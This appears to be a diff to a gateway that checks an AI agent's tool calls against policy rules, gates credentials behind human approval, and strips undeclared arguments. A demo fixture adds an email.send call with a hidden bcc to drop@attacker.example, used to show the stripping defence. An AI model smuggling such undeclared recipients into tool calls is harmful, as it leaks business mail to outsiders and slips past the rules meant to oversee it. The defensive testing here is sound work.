@@ -61,17 +61,29 @@ export function createGateway({ engine, logFile, person, tools, resolveContext, 
       context: resolveContext(tool, args ?? {}),
     };
     const decision = engine.decide(request);
+    // What the tool may be given: the declared arguments only. No rule saw an undeclared one (a
+    // `bcc` beside the `to` the rules checked), so it never reaches the tool; the log names it.
+    const declared = engine.declaredArguments(tool, args);
+    const undeclaredArgs = declared !== undefined && declared.undeclared.length > 0 ? { undeclaredArgs: declared.undeclared } : {};
+    const leftOut = declared !== undefined && declared.undeclared.length > 0 ? `; left out the undeclared arguments ${declared.undeclared.join(", ")}` : "";
     const rules = decision.rules.length > 0 ? ` (${decision.rules.join(", ")})` : "";
     // An ask's line says what a person's approval would mint (an allow or a deny has no such field).
     const onApproval = decision.decision === "ask" ? { grantsOnApproval: decision.grantsOnApproval, grantingRules: decision.grantingRules } : {};
     // The agent is told the decision and its reasons only (README, "What the agent may be told");
     // the rest (locations, errors: values the gateway set, the engine's settings) is for the log.
-    writeLog({ ...request, decision: decision.decision, rules: decision.rules, grants: decision.grants, ...onApproval, revoked: decision.revoked, reasons: decision.reasons, locations: decision.locations, errors: decision.errors });
+    writeLog({ ...request, decision: decision.decision, rules: decision.rules, grants: decision.grants, ...onApproval, revoked: decision.revoked, reasons: decision.reasons, locations: decision.locations, errors: decision.errors, ...undeclaredArgs });
+
+    // The engine allows only a valid call of a declared tool, whose arguments it can copy: a call
+    // it could not copy goes nowhere (fail closed), whatever the decision.
+    if (decision.decision !== "deny" && declared === undefined) {
+      print(`${shown} → refused by the gateway: its arguments could not be copied for the tool`);
+      return { refused: true };
+    }
 
     if (decision.decision === "allow") {
       const { credentials, granted } = grant(session, decision.grants, request.time);
-      const result = await tools.call(tool, args ?? {}, credentials);
-      print(`${shown} → allow${rules}${granted}; ${result}`);
+      const result = await tools.call(tool, declared.args, credentials);
+      print(`${shown} → allow${rules}${granted}${leftOut}; ${result}`);
       return { result };
     }
 
@@ -101,8 +113,8 @@ export function createGateway({ engine, logFile, person, tools, resolveContext, 
       // Only now, approved, does the call get the credentials the ask carries: those of the allow
       // rules that matched it, which nothing may mint before a person approves.
       const { credentials, granted } = grant(session, decision.grantsOnApproval, approval.time);
-      const result = await tools.call(tool, args ?? {}, credentials);
-      print(`${shown} → ${answer.who} approved (logged as an approval line)${granted}; ${result}`);
+      const result = await tools.call(tool, declared.args, credentials);
+      print(`${shown} → ${answer.who} approved (logged as an approval line)${granted}${leftOut}; ${result}`);
       return { result };
     }
 
@@ -229,7 +241,8 @@ const SESSIONS = [
     id: "fa-onboard",
     who: { agent: AP_BOT, user: CLERK, intent: "finance.vendor_onboarding" },
     steps: [
-      { tool: "email.send", args: { to: ["billing@globex.example"], subject: "Vendor set-up at Acme", body: "Please send a bank letter on company letterhead." } },
+      // A `bcc` the schema does not declare: no rule sees it, so the gateway leaves it out of the call.
+      { tool: "email.send", args: { to: ["billing@globex.example"], bcc: ["drop@attacker.example"], subject: "Vendor set-up at Acme", body: "Please send a bank letter on company letterhead." } },
       // While the AP lead reviews the new payee, the agent tells the vendor: allowed, as the
       // session holds no bank details until the approval.
       [
